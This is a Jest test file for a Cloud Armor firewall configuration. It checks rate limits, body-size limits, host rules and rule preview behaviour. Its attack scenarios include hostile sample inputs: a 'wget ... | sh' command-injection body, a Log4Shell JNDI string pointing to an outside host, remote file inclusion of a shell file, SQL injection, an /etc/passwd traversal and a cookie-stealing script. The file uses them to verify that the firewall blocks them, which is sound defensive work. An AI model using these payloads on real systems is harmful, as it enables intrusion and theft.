import { readFileSync } from "node:fs";
import { join } from "node:path";
import { Rule, WebFirewall, When } from "../../constructs/cloud-armor";
import { FirewallEvaluator, type Verdict, type WebRequest } from "../../constructs/cloud-armor/evaluator";
import { resolveSettings, resourceNames, type EnvironmentSettings } from "../../environments";
import { addCliscale } from "../../stacks/cliscale";
import { cliscaleFirewall } from "../../stacks/cliscale-firewall";
import {
  changed,
  exampleEnvironment,
  exampleEnvironments,
  refusalOf,
  ROOT,
  type Changes,
} from "../support/environments";
import { render, renderApp, type Rendered } from "../support/synth";

const environments = exampleEnvironments();
const stacks = renderApp((app) => environments.forEach((settings) => addCliscale(app, settings)));

// documentation addresses: RFC 5737 and RFC 3849
const HOME = "203.0.113.7";
const OFFICE = "198.51.100.23";
const HOME_V6 = "2001:db8:7::1";
const OFFICE_V6 = "2001:db8:ffff::1";
const CHROME = "t13d1516h2_8daaf6152771_b186095e22b6";
const FIREFOX = "t13d1715h2_5b57614c22b0_7121afd63204";

/** Where requests go: each environment has hosts of its own. */
interface Site {
  readonly app: string;
  readonly ws: string;
}

/** A token as Firebase issues them: the first 128 bytes of the header are the same for all users. */
function bearer(user: string, keyId = "9f3c".repeat(10)): string {
  const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString("base64url");
  const header = part({ alg: "RS256", kid: keyId, typ: "JWT" });
  const payload = part({ iss: "https://securetoken.google.com/cliscale", aud: "cliscale", sub: user });
  return `Bearer ${header}.${payload}.${Buffer.from(`signature of ${user}`).toString("base64url")}`;
}

/** `POST /api/sessions` as the page sends it; without a user, as a script would. */
function session({ app }: Site, change: Partial<WebRequest> & { readonly user?: string } = {}): WebRequest {
  const { user, headers, ...rest } = change;
  return {
    method: "POST",
    url: `${app}/api/sessions`,
    address: HOME,
    ja4: CHROME,
    body: '{"repository":"https://github.com/acme/tools.git","branch":"main"}',
    ...rest,
    headers: {
      "content-type": "application/json",
      "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
      ...(user === undefined ? {} : { authorization: bearer(user) }),
      ...headers,
    },
  };
}

function page({ app }: Site, path: string, change: Partial<WebRequest> = {}): WebRequest {
  return { url: app + path, address: HOME, ja4: CHROME, ...change };
}

/** The request that opens a WebSocket: browsers can't set its headers, so the session's token is in the query. */
function connect({ ws }: Site, change: Partial<WebRequest> = {}): WebRequest {
  return {
    url: `${ws}/connect?token=${bearer("ann").replace("Bearer ", "")}`,
    address: HOME,
    ja4: CHROME,
    ...change,
    headers: {
      connection: "Upgrade",
      upgrade: "websocket",
      "sec-websocket-version": "13",
      "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==",
      ...change.headers,
    },
  };
}

const times = (count: number, request: WebRequest | ((index: number) => WebRequest)): readonly WebRequest[] =>
  Array.from({ length: count }, (_, index) => (typeof request === "function" ? request(index) : request));

const PER_USER = "limit-api-sessions-per-user";
const PER_ADDRESS = "limit-api-sessions-per-address";
const CONNECTS = "limit-websocket-connects";
const OTHERS = "limit-other-requests";

/**
 * `exact`: the outcome is what Google documents, whatever its attack signatures say. `signatures`: it would be another
 * if they judged differently from the evaluator's patterns; which rule acts and how it counts is exact there, too.
 */
type Basis = "exact" | "signatures";

/** A story in requests; the last one is judged. */
type Scenario = readonly [
  story: string,
  requests: readonly WebRequest[],
  outcome: "allow" | 403 | 404 | 429,
  rule: string,
  basis: Basis,
];

const sessionScenarios = (site: Site): readonly Scenario[] => [
  ["a signed-in user creates a session", [session(site, { user: "ann" })], "allow", PER_USER, "signatures"],
  [
    "a user creates 20 sessions in a minute",
    times(20, session(site, { user: "ann" })),
    "allow",
    PER_USER,
    "signatures",
  ],
  ["a user creates 21 sessions in a minute", times(21, session(site, { user: "ann" })), 429, PER_USER, "exact"],
  [
    "a user who created 20 sessions tries again a second before the minute is over",
    [...times(20, session(site, { user: "ann", at: 0 })), session(site, { user: "ann", at: 59 })],
    429,
    PER_USER,
    "exact",
  ],
  [
    "a user who created 20 sessions tries again when the minute is over",
    [...times(20, session(site, { user: "ann", at: 0 })), session(site, { user: "ann", at: 60 })],
    "allow",
    PER_USER,
    "signatures",
  ],
  [
    "a second user behind the same address, with another browser, has a limit of his own",
    [...times(21, session(site, { user: "ann", ja4: CHROME })), session(site, { user: "bob", ja4: FIREFOX })],
    "allow",
    PER_USER,
    "signatures",
  ],
  [
    "a second user behind the same address, with the same browser, shares the first one's limit",
    [...times(20, session(site, { user: "ann" })), session(site, { user: "bob" })],
    429,
    PER_USER,
    "exact",
  ],
  [
    "a user who goes from home to the office has a new limit there",
    [...times(21, session(site, { user: "ann" })), session(site, { user: "ann", address: OFFICE })],
    "allow",
    PER_USER,
    "signatures",
  ],
  [
    "somebody at another address can't use up a user's limit, even with the user's own token",
    [...times(21, session(site, { user: "ann", address: OFFICE })), session(site, { user: "ann" })],
    "allow",
    PER_USER,
    "signatures",
  ],
  [
    "a token with another ending is no other user",
    [
      ...times(20, session(site, { user: "ann" })),
      session(site, { headers: { authorization: `${bearer("ann")}AAAA` } }),
    ],
    429,
    PER_USER,
    "exact",
  ],
  [
    "a made-up token has a limit of its own here: the application refuses it, since nobody signed it",
    [
      ...times(21, session(site, { user: "ann" })),
      session(site, { headers: { authorization: bearer("ann", "0000".repeat(10)) } }),
    ],
    "allow",
    PER_USER,
    "signatures",
  ],
  [
    "a token behind 'bEaReR' can't be a second user",
    [session(site, { headers: { authorization: bearer("ann").replace("Bearer", "bEaReR") } })],
    403,
    "malformed-bearer-token",
    "exact",
  ],
  [
    "a token behind two blanks can't be a second user",
    [session(site, { headers: { authorization: bearer("ann").replace("Bearer ", "Bearer  ") } })],
    403,
    "malformed-bearer-token",
    "exact",
  ],
  [
    "a password instead of a token",
    [session(site, { headers: { authorization: "Basic YW5uOnNlY3JldA==" } })],
    403,
    "malformed-bearer-token",
    "exact",
  ],
  [
    "a token without a signature",
    [session(site, { headers: { authorization: bearer("ann").replace(/\.[^.]+$/, "") } })],
    403,
    "malformed-bearer-token",
    "exact",
  ],
  [
    "an address posts 100 times in a minute, without a token",
    times(100, session(site)),
    "allow",
    PER_ADDRESS,
    "signatures",
  ],
  ["an address posts 101 times in a minute, without a token", times(101, session(site)), 429, PER_ADDRESS, "exact"],
  [
    "an address that posted 100 times tries again a second before the minute is over",
    [...times(100, session(site, { at: 0 })), session(site, { at: 59 })],
    429,
    PER_ADDRESS,
    "exact",
  ],
  [
    "an address that posted 100 times tries again when the minute is over",
    [...times(100, session(site, { at: 0 })), session(site, { at: 60 })],
    "allow",
    PER_ADDRESS,
    "signatures",
  ],
  [
    "a second address does not feel the first one's 101 requests",
    [...times(101, session(site)), session(site, { address: OFFICE })],
    "allow",
    PER_ADDRESS,
    "signatures",
  ],
  [
    "a signed-in user does not feel what others post from the same address without a token",
    [...times(101, session(site)), session(site, { user: "ann" })],
    "allow",
    PER_USER,
    "signatures",
  ],
  [
    "an address that forges another X-Forwarded-For each time",
    times(101, (index) => session(site, { headers: { "x-forwarded-for": `192.0.2.${index}` } })),
    429,
    PER_ADDRESS,
    "exact",
  ],
  [
    "an address that forges what a content delivery network would set",
    times(101, (index) =>
      session(site, { headers: { "true-client-ip": `192.0.2.${index}`, forwarded: `for=192.0.2.${index}` } }),
    ),
    429,
    PER_ADDRESS,
    "exact",
  ],
  [
    "an IPv6 address posts 101 times in a minute",
    times(101, session(site, { address: HOME_V6 })),
    429,
    PER_ADDRESS,
    "exact",
  ],
  [
    "a second IPv6 address does not feel the first one's 101 requests",
    [...times(101, session(site, { address: HOME_V6 })), session(site, { address: OFFICE_V6 })],
    "allow",
    PER_ADDRESS,
    "signatures",
  ],
  [
    "the path in capitals, percent-encoded, and with something behind it is the same path",
    [
      ...times(34, session(site, { url: `${site.app}/API/Sessions` })),
      ...times(33, session(site, { url: `${site.app}/api/%73essions` })),
      ...times(34, session(site, { url: `${site.app}/api/sessions/?again` })),
    ],
    429,
    PER_ADDRESS,
    "exact",
  ],
  [
    "reading sessions is not creating them",
    [...times(101, session(site)), page(site, "/api/sessions")],
    "allow",
    OTHERS,
    "signatures",
  ],
  [
    "a browser's preflight passes when the address may not post any more",
    [
      ...times(101, session(site)),
      page(site, "/api/sessions", {
        method: "OPTIONS",
        headers: {
          origin: site.app,
          "access-control-request-method": "POST",
          "access-control-request-headers": "authorization,content-type",
        },
      }),
    ],
    "allow",
    OTHERS,
    "signatures",
  ],
];

const bodyScenarios = (site: Site): readonly Scenario[] => [
  [
    "a body of 8192 bytes",
    [session(site, { user: "ann", body: `{"notes":"${"a".repeat(8192 - 12)}"}` })],
    "allow",
    PER_USER,
    "signatures",
  ],
  [
    "a body of 8193 bytes",
    [session(site, { user: "ann", body: `{"notes":"${"a".repeat(8193 - 12)}"}` })],
    403,
    "body-too-long",
    "exact",
  ],
  [
    "a body that hides SQL behind what the WAF reads",
    [session(site, { user: "ann", body: `{"notes":"${"a".repeat(8192)}","id":"1' OR '1'='1"}` })],
    403,
    "body-too-long",
    "exact",
  ],
  [
    "a body that does not say how long it is",
    [session(site, { user: "ann", body: undefined, headers: { "transfer-encoding": "chunked" } })],
    403,
    "body-of-unknown-length",
    "exact",
  ],
];

const attackScenarios = (site: Site): readonly Scenario[] => [
  ["SQL injection in the query", [page(site, "/?id=1%27%20OR%20%271%27%3D%271")], 403, "waf-sqli", "signatures"],
  [
    "SQL injection in the body, by a signed-in user",
    [session(site, { user: "ann", body: '{"branch":"x\' UNION SELECT password FROM users--"}' })],
    403,
    "waf-sqli",
    "signatures",
  ],
  ["a path traversal", [page(site, "/?file=../../../../etc/passwd")], 403, "waf-lfi", "signatures"],
  [
    "a script in the query",
    [page(site, "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")],
    403,
    "waf-xss",
    "signatures",
  ],
  [
    "Log4Shell in a header",
    [page(site, "/", { headers: { "x-api-version": "${jndi:ldap://203.0.113.66/a}" } })],
    403,
    "waf-cve",
    "signatures",
  ],
  [
    "a scanner that says its name",
    [page(site, "/", { headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" } })],
    403,
    "waf-scannerdetection",
    "signatures",
  ],
  [
    "a command in the body",
    [session(site, { user: "ann", body: '{"branch":"main; wget http://203.0.113.66/x -O- | sh"}' })],
    403,
    "waf-rce",
    "signatures",
  ],
  [
    "a file from elsewhere in the query",
    [page(site, "/?template=http://203.0.113.66/shell.txt")],
    403,
    "waf-rfi",
    "signatures",
  ],
  ["a polluted prototype in the query", [page(site, "/?__proto__[admin]=true")], 403, "waf-generic", "signatures"],
  [
    "an attack on the WebSocket host",
    [connect(site, { url: `${site.ws}/connect?token=1%27%20OR%20%271%27%3D%271` })],
    403,
    "waf-sqli",
    "signatures",
  ],
  [
    "an attack does not count as a session",
    [
      ...times(25, session(site, { user: "ann", body: '{"branch":"x\' UNION SELECT password FROM users--"}' })),
      session(site, { user: "ann" }),
    ],
    "allow",
    PER_USER,
    "signatures",
  ],
];

const harmlessScenarios = (site: Site): readonly Scenario[] => [
  [
    "a person called O'Brien",
    [session(site, { user: "ann", body: '{"name":"Siobhan O\'Brien"}' })],
    "allow",
    PER_USER,
    "signatures",
  ],
  [
    "a sentence with the words of SQL",
    [session(site, { user: "ann", body: '{"title":"Select a repository from the list and update it"}' })],
    "allow",
    PER_USER,
    "signatures",
  ],
  [
    "code with quotes",
    [session(site, { user: "ann", body: JSON.stringify({ snippet: 'const greeting = "hello"; print(greeting)' }) })],
    "allow",
    PER_USER,
    "signatures",
  ],
  ["a search with an ampersand", [page(site, "/search?q=R%26D%20roadmap%20(draft)")], "allow", OTHERS, "signatures"],
  [
    "a page with the usual cookies",
    [page(site, "/", { headers: { cookie: "theme=dark; _ga=GA1.2.1161.1700000000; session=c2Vzc2lvbg==" } })],
    "allow",
    OTHERS,
    "signatures",
  ],
];

const hostScenarios = (site: Site): readonly Scenario[] => [
  ["a page", [page(site, "/")], "allow", OTHERS, "signatures"],
  ["an address loads 1000 pages in a minute", times(1000, page(site, "/")), "allow", OTHERS, "signatures"],
  ["an address loads 1001 pages in a minute", times(1001, page(site, "/")), 429, OTHERS, "exact"],
  [
    "a host that nobody serves",
    [{ url: "https://203.0.113.99/api/sessions", method: "POST", body: "{}", address: HOME }],
    404,
    "unknown-host",
    "exact",
  ],
  [
    "a Host header with a port",
    [page(site, "/", { headers: { host: `${new URL(site.app).host}:443` } })],
    "allow",
    OTHERS,
    "signatures",
  ],
  [
    "a Host header in capitals is counted as the same host",
    times(101, session(site, { headers: { host: new URL(site.app).host.toUpperCase() } })),
    429,
    PER_ADDRESS,
    "exact",
  ],
  ["an uptime check of the controller", [page(site, "/healthz")], "allow", OTHERS, "signatures"],
  [
    "an uptime check of the gateway",
    [
      {
        url: `${site.ws}/healthz`,
        address: OFFICE,
        headers: { "user-agent": "GoogleStackdriverMonitoring-UptimeChecks" },
      },
    ],
    "allow",
    CONNECTS,
    "signatures",
  ],
  ["the readiness of the controller, from outside", [page(site, "/readyz")], 404, "readiness-from-outside", "exact"],
  [
    "the readiness of the controller, from outside and in disguise",
    [page(site, "/%72EADYZ?x")],
    404,
    "readiness-from-outside",
    "exact",
  ],
];

const socketScenarios = (site: Site): readonly Scenario[] => [
  ["a browser opens a WebSocket", [connect(site)], "allow", CONNECTS, "signatures"],
  ["an address opens 120 WebSockets in a minute", times(120, connect(site)), "allow", CONNECTS, "signatures"],
  ["an address opens 121 WebSockets in a minute", times(121, connect(site)), 429, CONNECTS, "exact"],
  [
    "an address that opened 120 WebSockets tries again a second before the minute is over",
    [...times(120, connect(site, { at: 0 })), connect(site, { at: 59 })],
    429,
    CONNECTS,
    "exact",
  ],
  [
    "an address that opened 120 WebSockets tries again when the minute is over",
    [...times(120, connect(site, { at: 0 })), connect(site, { at: 60 })],
    "allow",
    CONNECTS,
    "signatures",
  ],
  [
    "a second address does not feel the first one's 121 WebSockets",
    [...times(121, connect(site)), connect(site, { address: OFFICE })],
    "allow",
    CONNECTS,
    "signatures",
  ],
  [
    "a page loads when its address may open no more WebSockets",
    [...times(121, connect(site)), page(site, "/")],
    "allow",
    OTHERS,
    "signatures",
  ],
  [
    "another token for each WebSocket changes nothing",
    times(121, (index) => connect(site, { url: `${site.ws}/connect?token=${index}` })),
    429,
    CONNECTS,
    "exact",
  ],
];

const scenarios = (site: Site): readonly Scenario[] => [
  ...sessionScenarios(site),
  ...bodyScenarios(site),
  ...attackScenarios(site),
  ...harmlessScenarios(site),
  ...hostScenarios(site),
  ...socketScenarios(site),
];

function rendered(settings: EnvironmentSettings): Rendered {
  const found = stacks.get(`cliscale-${settings.name}`);
  if (found === undefined) {
    throw new Error(`no stack for ${settings.name}`);
  }
  return found;
}

function siteOf({ domain, wsDomain }: EnvironmentSettings): Site {
  return { app: `https://${domain}`, ws: `https://${wsDomain}` };
}

function lastVerdict(evaluator: FirewallEvaluator, requests: readonly WebRequest[]): Verdict {
  evaluator.reset();
  const verdict = requests.map((request) => evaluator.judge(request)).at(-1);
  if (verdict === undefined) {
    throw new Error("a story without a request");
  }
  return verdict;
}

/** The rules of an environment with the hosts of production in place of its own. */
function rulesOf(settings: EnvironmentSettings): readonly unknown[] {
  const prod = exampleEnvironment("prod");
  return rendered(settings)
    .resources("google_compute_security_policy_rule")
    .map((rule): unknown =>
      JSON.parse(
        JSON.stringify({ ...rule, "//": undefined, project: undefined })
          .replaceAll(`'${settings.domain}'`, `'${prod.domain}'`)
          .replaceAll(`'${settings.wsDomain}'`, `'${prod.wsDomain}'`),
      ),
    );
}

describe("the firewall of prod", () => {
  const settings = exampleEnvironment("prod");
  const evaluator = FirewallEvaluator.fromStack(rendered(settings).json);

  it.each(scenarios(siteOf(settings)))("%s", (_story, requests, outcome, rule, basis) => {
    const verdict = lastVerdict(evaluator, requests);

    expect({ outcome: verdict.status ?? verdict.outcome, rule: verdict.rule }).toEqual({ outcome, rule });
    expect(verdict.approximate).toBe(basis === "signatures");
    expect(verdict.previewed).toEqual([]);
  });
});

describe.each(["sandbox", "dev", "staging"])("the firewall of %s", (name) => {
  it("has the rules of production for hosts of its own, so that every story is true there, too", () => {
    expect(rulesOf(exampleEnvironment(name))).toEqual(rulesOf(exampleEnvironment("prod")));
  });

  it("refuses a user's 21st session and an attack at its own hosts", () => {
    const settings = exampleEnvironment(name);
    const evaluator = FirewallEvaluator.fromStack(rendered(settings).json);
    const site = siteOf(settings);

    expect(lastVerdict(evaluator, times(21, session(site, { user: "ann" })))).toMatchObject({
      rule: PER_USER,
      status: 429,
    });
    expect(lastVerdict(evaluator, [connect(site, { url: `${site.ws}/?id=1%27%20OR%20%271%27%3D%271` })])).toMatchObject(
      {
        rule: "waf-sqli",
        status: 403,
      },
    );
  });
});

describe("the scenarios", () => {
  const table = scenarios({ app: "https://app", ws: "https://ws" });

  it("are at least 40, no two of them alike", () => {
    expect(table.length).toBeGreaterThanOrEqual(40);
    expect(new Set(table.map(([story]) => story)).size).toBe(table.length);
  });

  it("see every rule of production act at least once, apart from those whose signatures have no harmless example", () => {
    const acting = new Set(table.map(([, , , rule]) => rule));
    const silent = exampleEnvironment("prod").firewall.enforcedRules.filter((name) => !acting.has(name));

    expect(silent).toEqual(["waf-protocolattack", "waf-sessionfixation"]);
  });
});

/** The firewall of an environment of the example, with changed settings and rules that somebody adds. */
function firewallWith(environment: string, changes: Changes, ...added: readonly ReturnType<typeof Rule.deny>[]) {
  const [settings] = resolveSettings([changed(environment, changes)]);
  if (settings === undefined) {
    throw new Error(`no settings for ${environment}`);
  }
  const props = cliscaleFirewall(settings, resourceNames(settings));
  const json = render((stack) => new WebFirewall(stack, "Firewall", { ...props, rules: [...props.rules, ...added] }));
  const previewed = json
    .resources("google_compute_security_policy_rule")
    .filter(({ preview }) => preview === true)
    .map(({ description }) => description);
  return { previewed, site: siteOf(settings), evaluator: FirewallEvaluator.fromStack(json.json) };
}

describe("firewall.previewNewRules", () => {
  const addedTomorrow = Rule.deny({ name: "added-tomorrow", when: When.path("/old-api") });
  const preview = { "firewall.previewNewRules": true };

  it("keeps no rule of today in preview in production", () => {
    expect(firewallWith("prod", {}).previewed).toEqual([]);
  });

  it("keeps a rule that is added to production in preview: it refuses nothing and is named", () => {
    const { evaluator, previewed, site } = firewallWith("prod", {}, addedTomorrow);
    const verdict = evaluator.judge(page(site, "/old-api"));

    expect(previewed).toEqual(["added-tomorrow"]);
    expect(verdict).toMatchObject({
      outcome: "allow",
      rule: OTHERS,
      previewed: [{ rule: "added-tomorrow", status: 403 }],
    });
  });

  it("enforces a rule at once that is added where nothing is previewed", () => {
    const { evaluator, previewed, site } = firewallWith("staging", {}, addedTomorrow);

    expect(previewed).toEqual([]);
    expect(evaluator.judge(page(site, "/old-api"))).toMatchObject({ outcome: "deny", rule: "added-tomorrow" });
  });

  it("takes a rule back into preview when its name is taken off the list", () => {
    const { enforcedRules } = exampleEnvironment("prod").firewall;
    const changes = { "firewall.enforcedRules": enforcedRules.filter((name) => name !== "waf-rce") };

    expect(firewallWith("prod", changes).previewed).toEqual(["waf-rce"]);
  });

  it("refuses to take only the body's limit back, behind which the WAF would see nothing", () => {
    const { enforcedRules } = exampleEnvironment("prod").firewall;
    const changes = { "firewall.enforcedRules": enforcedRules.filter((name) => name !== "body-too-long") };

    expect(() => firewallWith("prod", changes)).toThrow("must refuse bodies of more than 8192 bytes");
  });

  it("refuses a name that no rule has", () => {
    const { enforcedRules } = exampleEnvironment("prod").firewall;
    const misspelled = { "firewall.enforcedRules": [...enforcedRules.slice(1), "unknown-hots"] };

    expect(refusalOf(changed("prod", misspelled))).toBeUndefined();
    expect(() => firewallWith("prod", misspelled)).toThrow(/unknown-hots[\s\S]*unknown-host/);
  });

  it.each<[story: string, requests: (site: Site) => readonly WebRequest[], named: string, status: number]>([
    ["SQL injection", (site) => [page(site, "/?id=1%27%20OR%20%271%27%3D%271")], "waf-sqli", 403],
    ["a user's 21st session", (site) => times(21, session(site, { user: "ann" })), PER_USER, 429],
    ["an address's 101st request", (site) => times(101, session(site)), PER_ADDRESS, 429],
    ["an address's 121st WebSocket", (site) => times(121, connect(site)), CONNECTS, 429],
    ["a long body", (site) => [session(site, { body: "a".repeat(8193) })], "body-too-long", 403],
    ["an unknown host", () => [{ url: "https://203.0.113.99/", address: HOME }], "unknown-host", 404],
  ])(
    "without enforced rules lets %s pass and names the rule that would have refused it",
    (_story, requests, rule, status) => {
      const { evaluator, site } = firewallWith("dev", preview);
      const verdict = lastVerdict(evaluator, requests(site));

      expect(verdict).toMatchObject({ outcome: "allow", rule: "default rule" });
      expect(verdict.previewed).toContainEqual(expect.objectContaining({ rule, outcome: "deny", status }));
    },
  );

  it("lets an ordinary session pass without any rule that would have refused it", () => {
    const { evaluator, site } = firewallWith("dev", preview);

    expect(
      evaluator.judge(session(site, { user: "ann" })).previewed.filter(({ outcome }) => outcome === "deny"),
    ).toEqual([]);
  });
});

describe("the limits of the settings", () => {
  it.each<[setting: string, request: (site: Site) => WebRequest, rule: string]>([
    ["firewall.sessions.perUserPerMinute", (site) => session(site, { user: "ann" }), PER_USER],
    ["firewall.sessions.perAddressPerMinute", (site) => session(site), PER_ADDRESS],
    ["firewall.connects.perAddressPerMinute", (site) => connect(site), CONNECTS],
    ["firewall.otherRequests.perAddressPerMinute", (site) => page(site, "/"), OTHERS],
  ])("%s is the last request that passes", (setting, request, rule) => {
    const { evaluator, site } = firewallWith("dev", { [setting]: 3 });

    expect(lastVerdict(evaluator, times(3, request(site)))).toMatchObject({ outcome: "allow", rule });
    expect(lastVerdict(evaluator, times(4, request(site)))).toMatchObject({ outcome: "deny", status: 429, rule });
  });

  it("firewall.maxBodyBytes is the longest body that passes", () => {
    const { evaluator, site } = firewallWith("dev", { "firewall.maxBodyBytes": 100 });
    const body = (bytes: number) => session(site, { user: "ann", body: `"${"a".repeat(bytes - 2)}"` });

    expect(evaluator.judge(body(100))).toMatchObject({ outcome: "allow", rule: PER_USER });
    expect(evaluator.judge(body(101))).toMatchObject({ outcome: "deny", status: 403, rule: "body-too-long" });
  });
});

describe("docs/operations/tune-a-firewall-rule.md", () => {
  const text = readFileSync(join(ROOT, "docs", "operations", "tune-a-firewall-rule.md"), "utf8");
  const prod = rendered(exampleEnvironment("prod"));
  const rules = prod
    .resources("google_compute_security_policy_rule")
    .filter(({ priority }) => priority !== 2_147_483_647)
    .map((rule) => ({
      name: rule.description,
      priority: rule.priority,
      status: Number(/\d{3}/.exec(JSON.stringify([rule.action, rule.rate_limit_options]))?.[0]),
    }));

  it("names every rule of production with its priority and status", () => {
    const rows = [...text.matchAll(/^\| `([a-z-]+)` \| (\d+) \| .* \| (\d{3}) \|$/gm)];

    expect(
      rows.map(([, name, priority, status]) => ({ name, priority: Number(priority), status: Number(status) })),
    ).toEqual(rules);
  });

  it("names the policy, and says how many rules count for the quotas", () => {
    const advanced = prod
      .resources("google_compute_security_policy_rule")
      .filter(({ match }) => JSON.stringify(match).includes('"expression"'));

    expect(text).toContain(`POLICY=${String(prod.only("google_compute_security_policy").name)} `);
    expect(text).toContain(
      `\`SECURITY_POLICY_RULES\` all ${rules.length + 1}, \`SECURITY_POLICY_CEVAL_RULES\` the ${advanced.length} with an expression`,
    );
  });

  it("says rightly that a deploy turns verbose logs off again", () => {
    expect(prod.only("google_compute_security_policy").advanced_options_config).toMatchObject({ log_level: "NORMAL" });
  });
});
